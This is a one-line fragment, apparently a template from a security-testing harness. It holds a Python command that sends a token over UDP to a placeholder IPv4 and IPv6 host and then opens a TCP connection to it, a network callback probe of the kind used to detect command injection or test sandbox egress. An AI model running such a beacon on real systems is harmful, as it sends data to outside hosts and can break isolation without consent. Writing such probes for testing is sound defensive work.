c$ python3 -c 'import socket as s; [s.socket(f, s.SOCK_DGRAM).sendto(b"{token}", (a, {shut})) for f, a in ((s.AF_INET, "{s.ip}"), (s.AF_INET6, "{s.ip6}"))]; s.create_connection(("{s.ip}", {shut}))'
